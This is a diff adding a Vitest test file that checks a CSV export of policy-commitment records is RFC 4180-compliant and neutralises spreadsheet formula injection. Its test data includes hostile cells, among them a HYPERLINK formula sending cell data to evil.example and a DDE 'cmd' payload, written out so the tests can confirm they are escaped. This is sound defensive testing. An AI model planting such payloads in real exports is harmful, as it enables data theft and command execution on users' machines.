@@ -1,0 +1,55 @@
+/** The CSV download: RFC 4180, and no cell a spreadsheet would run as a formula (OWASP, CSV injection). */
+import { parse } from 'csv-parse/sync';
+import { describe, expect, it } from 'vitest';
+import { CSV_COLUMNS, toCsv, type CommitmentRecord } from '../../src/lib/commitments-export.ts';
+
+const record = (en: string, zh = '新建5G基站400个'): CommitmentRecord => ({
+  id: 'x',
+  road: 'road-a',
+  initiative: null,
+  paragraph: 1,
+  zh,
+  amount: '400个',
+  value: 400,
+  unit: 'count',
+  en,
+  type: 'urban',
+  status: 'announced',
+  url_zh: 'https://example.org/zh/',
+  url_en: 'https://example.org/en/',
+});
+
+const cellsOf = (csv: string) => {
+  const [header, ...rows] = parse(csv.slice(1)) as string[][];
+  expect(header).toEqual(CSV_COLUMNS);
+  return rows.map((row) => Object.fromEntries(header.map((column, i) => [column, row[i]])));
+};
+
+describe('toCsv', () => {
+  it.each([
+    ['=HYPERLINK("https://evil.example/?x="&A1,"Click")'],
+    ['+1+cmd|\' /C calc\'!A0'],
+    ['-2+3'],
+    ['@SUM(A1:A2)'],
+    ['\t=1+1'],
+    ['\r=1+1'],
+  ])('neutralises a cell that begins like a formula: %j', (hostile) => {
+    const [row] = cellsOf(toCsv([record(hostile, hostile)]));
+    expect(row.en).toBe(`'${hostile}`);
+    expect(row.zh).toBe(`'${hostile}`);
+  });
+
+  it('leaves ordinary text, quotes and commas, and numbers as they are', () => {
+    const [row] = cellsOf(toCsv([record('Build 400 new 5G base stations, “in full”, say "all"')]));
+    expect(row.en).toBe('Build 400 new 5G base stations, “in full”, say "all"');
+    expect(row.value).toBe('400');
+    expect(row.initiative).toBe('');
+    expect(row.zh).toBe('新建5G基站400个');
+  });
+
+  it('starts with a byte-order mark and ends rows with CRLF', () => {
+    const csv = toCsv([record('a')]);
+    expect(csv.charCodeAt(0)).toBe(0xfeff);
+    expect(csv.endsWith('\r\n')).toBe(true);
+  });
+});
